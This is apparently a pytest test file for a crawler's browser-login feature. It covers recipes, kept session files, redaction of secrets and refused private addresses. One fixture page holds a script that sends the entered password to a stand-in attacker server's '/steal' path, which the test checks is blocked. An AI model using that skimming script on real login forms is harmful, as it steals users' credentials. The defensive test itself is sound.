"""A recipe is carried out in the browser before a scan; its session is kept in a file of its own, while it works."""

from __future__ import annotations

import asyncio
import json
import re
import stat
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from headwater import LoginError, SettingError, discover
from headwater.fetch.browser.browser import Browser
from headwater.fetch.login.login import find_exposed_secrets, log_in
from headwater.fetch.login.recipe_runner import RecipeRunner
from headwater.pages.documents.login_forms import LoginSigns
from headwater.pages.files.login_recipes import parse_recipe
from headwater.pages.files.session_files import format_session_file
from headwater.runner.scan_runner import ScanRunner, ScanTask
from headwater.runner.scan_setup import public_settings
from headwater.settings import build_settings
from headwater.store import MemoryStore
from headwater.urls.patterns import compile_patterns
from tests.commands import PATIENCE, headwater
from tests.sites.members import PASSWORD, TOKEN, USER, Members, members_site
from tests.sites.table_site import Answer, ReceivedRequest, Server, serve

if TYPE_CHECKING:
    from headwater.model import Evidence
    from headwater.pages.files.login_recipes import LoginRecipe

VARIABLE = "HEADWATER_TEST_PASSWORD"
FILL_USER = ("fill", "#user", USER)
FILL_PASSWORD = ("fill", "#password", f"env:{VARIABLE}")
CLICK = ("click", "button", "")
SUCCESS = 'url = "/"\ntext = "log out"'


def write_recipe(path: Path, start: str, *steps: tuple[str, str, str], success: str = SUCCESS, more: str = "") -> str:
    """Write a recipe with these steps: an action, a selector, and a value or, for other actions, `optional`."""
    lines = [f'start = "{start}"', more]
    for action, selector, value in steps or (FILL_USER, FILL_PASSWORD, CLICK):
        more_keys = f'value = "{value}"' if action == "fill" else "optional = true" if value else ""
        lines += ["[[steps]]", f'{action} = "{selector}"', more_keys]
    path.write_text("\n".join([*lines, "[success]", success, ""]))
    return str(path)


def posts_of(server: Server) -> list[str]:
    return [request.path for request in server.requests if request.method == "POST"]


def scan(server: Server, recipe: str, folder: Path, *more: str) -> tuple[list[str], str]:
    """Scan the site with the command; return the paths and the messages."""
    result = headwater(
        f"{server.origin}/", "--login", recipe, "--render", "never", "--render-timeout", str(PATIENCE), *more,
        environment={VARIABLE: PASSWORD}, cwd=folder,
    )  # fmt: skip
    return [line.removeprefix(server.origin) for line in result.out.splitlines()], result.err


def test_a_session_is_opened_kept_and_used_while_it_works(tmp_path: Path) -> None:
    site = Members()
    with members_site(site) as server:
        recipe = write_recipe(tmp_path / "members.toml", f"{server.origin}/login")
        kept = tmp_path / "members.toml.session.json"
        kept.write_text("{}")  # not a session: it is replaced
        paths, messages = scan(server, recipe, tmp_path)
        assert paths == ["/", "/a", "/b", "/c", *(f"/help/{number}" for number in range(8))][:4]
        assert f"Logging in at {server.origin}/login" in messages
        assert not {request.path for request in server.requests} & {"/logout", "/x?id=7"}
        assert stat.S_IMODE(kept.stat().st_mode) == 0o600
        assert (TOKEN in kept.read_text(), PASSWORD in kept.read_text()) == (True, False)
        again, messages = scan(server, recipe, tmp_path)
        assert (again, site.logins, posts_of(server)) == (paths, 1, ["/session"])
        assert f"Using the session in {kept}" in messages
    stored = b"".join(path.read_bytes() for path in tmp_path.glob("headwater.db*"))
    for secret in (PASSWORD, TOKEN):
        assert secret not in messages
        assert secret.encode() not in stored
    assert b"members.toml" not in stored


def test_a_session_that_no_longer_works_is_replaced(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(VARIABLE, PASSWORD)
    site = Members(login_path="/portal", robots="User-agent: *\nDisallow: /portal\n")
    with members_site(site) as server:
        start = f"{server.origin}/portal"
        recipe = write_recipe(tmp_path / "r.toml", start, more='robots = "ignore"')
        kept = keep_session(tmp_path / "kept.json", start, f"{server.origin}/", token="old")
        with discover(f"{server.origin}/a", login=recipe, session=str(kept), render="never") as found:
            assert [url.removeprefix(server.origin) for url in found.urls] == ["/", "/a", "/b", "/c"]
        assert (site.logins, posts_of(server)) == (1, ["/session"])
        assert TOKEN in kept.read_text()
        disallowed = write_recipe(tmp_path / "r.toml", start)
        with pytest.raises(LoginError, match=r"robots.txt disallows .*/portal \(line 2\).* robots = "):
            discover(f"{server.origin}/", login=disallowed, render="never", db=str(tmp_path / "s.db"))
        assert not (tmp_path / "s.db").exists()


def keep_session(path: Path, start: str, checked_url: str, token: str = TOKEN) -> Path:
    """Write the file that a login would have kept."""
    cookie = {"name": "sid", "value": token, "domain": "127.0.0.1", "path": "/", "expires": -1}
    signs = LoginSigns(start, checked_url, frozenset({frozenset({"user", "pw"})}))
    path.write_text(format_session_file({"cookies": [cookie], "origins": []}, signs))
    path.chmod(0o600)
    return path


def scan_with_kept_session(
    site: Members, folder: Path, **settings: Any
) -> tuple[dict[str, str | None], list[Evidence]]:
    """Scan the site with a session; return its URLs with their reasons, and the evidence that it ended."""
    with members_site(site) as server:
        recipe = write_recipe(folder / "r.toml", f"{server.origin}{site.login_path}")
        kept = keep_session(folder / "kept.json", f"{server.origin}{site.login_path}", f"{server.origin}/")
        return run_scan(server, {"login": recipe, "session": str(kept), "render": "never", **settings})


def run_scan(server: Server, settings: dict[str, Any]) -> tuple[dict[str, str | None], list[Evidence]]:
    """Scan a site without checking its session first; return its URLs with reasons, and the end of the session."""
    store, chosen = MemoryStore(), build_settings(settings)
    task = ScanTask(store, store.create_scan([f"{server.origin}/"], public_settings(chosen)), chosen)
    asyncio.run(ScanRunner(task).run())
    reasons = {page.url.removeprefix(server.origin): page.reason for page in store.pages(1) if page.kind == "page"}
    return reasons, store.evidence(1, "session_lost")


@pytest.mark.parametrize("shows_form", [False, True])
@pytest.mark.parametrize("skip_walls", [False, True])
def test_login_pages_are_not_listed_when_the_session_ends(shows_form: bool, skip_walls: bool, tmp_path: Path) -> None:
    """The login form is among links and text of the page's own, so it is not recognized as a bare login page."""
    site = Members(shows_form=shows_form, max_pages=2)
    reasons, lost = scan_with_kept_session(site, tmp_path, skip_walls=skip_walls, max_parallel=1)
    pages = {path for path, reason in reasons.items() if reason is None and not path.startswith("/help/")}
    assert pages - {"/b", "/c"} == {"/", "/a"}
    if shows_form:
        assert (reasons["/b"], reasons["/c"]) == ("login-required", "login-required")
    else:
        assert reasons["/login"] == "login-required"
    (evidence,) = lost
    assert evidence.content["refused"] in {2, 3}


SHELL = """<title>App</title><div id=root></div><script>
const path = location.pathname, form = "<form><input name=user><input type=password name=pw></form>";
if (path === "/moved") location.href = "/login?from=app";
else root.innerHTML = path === "/asks" ? form : "<h1>Read " + path + "</h1>LINKS";
</script>"""


def test_pages_that_scripts_replace_by_the_login_are_not_listed(tmp_path: Path) -> None:
    links = "".join(f"<a href=/{name}>{name}</a>" for name in ("asks", "moved", "read"))
    site = Members(pages=(), login_path="/login")

    def answer(request: ReceivedRequest) -> Answer | None:
        is_app = request.path in {"/", "/asks", "/moved", "/read"}
        return Answer(SHELL.replace("LINKS", links)) if is_app else site.answer(request)

    with serve(answer) as server:
        recipe = write_recipe(tmp_path / "r.toml", f"{server.origin}/login")
        keep_session(tmp_path / "r.toml.session.json", f"{server.origin}/login", f"{server.origin}/")
        reasons, _ = run_scan(server, {"login": recipe, "render_timeout": PATIENCE})
    listed = {path for path, reason in reasons.items() if reason is None and not path.startswith("/help/")}
    assert listed == {"/", "/read"}
    assert (reasons["/asks"], reasons["/moved"]) == ("login-required", "login-required")


def test_a_page_without_rights_does_not_end_the_session(tmp_path: Path) -> None:
    site = Members(pages=("/a", "/b", "/login"))
    reasons, lost = scan_with_kept_session(site, tmp_path)
    assert (reasons["/a"], reasons["/login"], lost) == (None, "login-required", [])


FAILURES = [
    # steps, success, more, what the message says
    ((("fill", "#no", "x"), CLICK), SUCCESS, "timeout = 0.2", r"step 1 \(fill #no\) failed at .*/login: no such"),
    ((FILL_USER, ("click", "##", "")), SUCCESS, "", r"step 2 \(click ##\) failed at .*/login: "),
    ((("wait", "#late", ""),), SUCCESS, "timeout = 0.2", r"step 1 \(wait #late\) failed"),
    ((("click", "#a", "optional"), ("click", "#b", "")), SUCCESS, "timeout = 0.2", r"step 2 \(click #b\) failed"),
    ((FILL_USER, ("fill", "#password", "wrong-h0rse"), CLICK), SUCCESS, "",
     r"after the last step the browser is at .*/login, without a URL that matches '/'"),
    ((CLICK,), 'url = "/login*"', "", r"the success check \(.*\) is met by .*/login before the login"),
]  # fmt: skip


def test_failures_name_the_step_and_no_value(tmp_path: Path) -> None:
    async def run(recipes: list[LoginRecipe]) -> list[str]:
        browser, messages = Browser(build_settings({}), [server.origin]), []
        try:
            for recipe in recipes:
                allowed = compile_patterns([f"{server.origin}/*"], "login")
                async with browser.open_tab(recipe.start, allowed_writes=allowed) as tab:
                    with pytest.raises(LoginError) as error:
                        await RecipeRunner(recipe, browser, tab, PATIENCE).run()
                    messages.append(str(error.value))
        finally:
            await browser.aclose()
        return messages

    with members_site(Members()) as server:
        written = (
            write_recipe(tmp_path / "r.toml", f"{server.origin}/login", *steps, success=success, more=more)
            for steps, success, more, _ in FAILURES
        )
        messages = asyncio.run(run([parse_recipe(Path(path).read_text()) for path in written]))
    for message, (*_, expected) in zip(messages, FAILURES, strict=True):
        assert re.search(expected, message), message
        assert "h0rse" not in message


PAGE = """<title>App</title><form id=form><input id=user name=user><input id=password type=password><button>Go</button>
</form><script>
form.onsubmit = async event => {
  event.preventDefault();
  const request = { method: "POST", mode: "no-cors", body: password.value };
  for (const url of ["OTHER/steal", "OWN/track"]) await fetch(url, request);
  const answer = await fetch("OWN/api/login", { method: "POST", body: JSON.stringify([user.value, password.value]) });
  localStorage.setItem("token", await answer.text());
  setTimeout(() => { document.body.innerHTML = "<h1>Welcome back</h1><a href=/a>a</a>"; }, 20);
};
</script>"""


def test_forms_are_sent_to_the_origins_of_the_recipe_only(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A login by scripts, whose token is in the local storage. Pages of the scan send nothing."""
    monkeypatch.setenv(VARIABLE, PASSWORD)

    def answer(request: ReceivedRequest) -> Answer | None:
        if request.path == "/api/login":
            return Answer(TOKEN if request.body == f'["{USER}","{PASSWORD}"]'.encode() else "no")
        if request.path == "/a":
            return Answer("<title>a</title><script>fetch('/beacon', { method: 'POST' })</script><p>a")
        page = PAGE.replace("OTHER", other.origin).replace("OWN", server.origin)
        return Answer(page) if request.path == "/" else Answer("tracked") if request.path == "/track" else None

    with serve(lambda _: Answer("stolen")) as other, serve(answer) as server:
        recipe = write_recipe(tmp_path / "r.toml", f"{server.origin}/", success='text = "welcome BACK"')
        asyncio.run(log_in(build_settings({"login": recipe})))
        assert posts_of(other) == []
        assert posts_of(server) == ["/track", "/api/login"]
    kept = json.loads((tmp_path / "r.toml.session.json").read_text())
    assert kept["origins"][0]["localStorage"] == [{"name": "token", "value": TOKEN}]
    assert kept["headwater"]["forms"] == [["password", "user"]]


@pytest.mark.parametrize(
    ("text", "more", "words"),
    [
        ("start = 3", {}, "r.toml: start is not a URL"),
        (None, {}, "cannot be read: No such file"),
        (
            "[[steps]]\nfill = '#p'\nvalue = 'env:HEADWATER_TEST_UNSET'",
            {},
            r"step 1 \(fill #p\): the environment variable",
        ),
        ("[[steps]]\nclick = '#p'", {"session": "/no-such-folder/s.json"}, "the folder /no-such-folder does not exist"),
        (
            "[[steps]]\nclick = '#p'",
            {"browser": "/no-such-browser"},
            "a login needs a browser, and /no-such-browser was",
        ),
    ],
)
def test_mistakes_are_reported_before_anything_is_requested(
    text: str | None, more: dict[str, str], words: str, tmp_path: Path
) -> None:
    recipe = tmp_path / "r.toml"
    if text is not None:
        start = "" if text.startswith("start") else "start = 'http://127.0.0.1:9/'\n"
        recipe.write_text(f"{start}{text}\n[success]\ntext = 'x'\n")
    with pytest.raises(SettingError, match=words):
        discover("http://127.0.0.1:9/", login=str(recipe), **more)


def test_a_session_file_needs_a_recipe() -> None:
    with pytest.raises(SettingError, match="session: it needs --login"):
        discover("http://127.0.0.1:9/", session="s.json")


def test_a_private_address_is_not_requested(tmp_path: Path) -> None:
    recipe = write_recipe(
        tmp_path / "r.toml", "http://10.255.255.1/login", ("click", "a", ""), more='robots = "ignore"'
    )
    with pytest.raises(LoginError, match=r"10.255.255.1 is not public; --allow-private"):
        asyncio.run(log_in(build_settings({"login": recipe})))


def test_recipes_with_passwords_that_others_can_read(tmp_path: Path) -> None:
    literal = write_recipe(tmp_path / "l.toml", "http://127.0.0.1:9/", FILL_USER)
    variable = write_recipe(tmp_path / "v.toml", "http://127.0.0.1:9/", FILL_PASSWORD)
    for recipe in (literal, variable):
        Path(recipe).chmod(0o644)
    assert find_exposed_secrets(build_settings({"login": literal})) == [literal]
    assert find_exposed_secrets(build_settings({"login": variable})) == []
    Path(literal).chmod(0o600)
    assert find_exposed_secrets(build_settings({"login": literal})) == []


def test_a_login_that_leaves_no_session_fails_before_the_scan(tmp_path: Path) -> None:
    def answer(request: ReceivedRequest) -> Answer:
        return Answer("log out" if request.path.startswith("/in") else '<form action="/in"><button>Go</button></form>')

    with serve(answer) as server:
        recipe = write_recipe(tmp_path / "r.toml", f"{server.origin}/login", CLICK, success='text = "log out"')
        result = headwater(f"{server.origin}/", "--login", recipe, "--render-timeout", str(PATIENCE), cwd=tmp_path)
    assert "the login left no session that a scan can use: it holds neither cookies nor local" in result.err, result.err
    assert [path.name for path in tmp_path.iterdir()] == ["r.toml"]
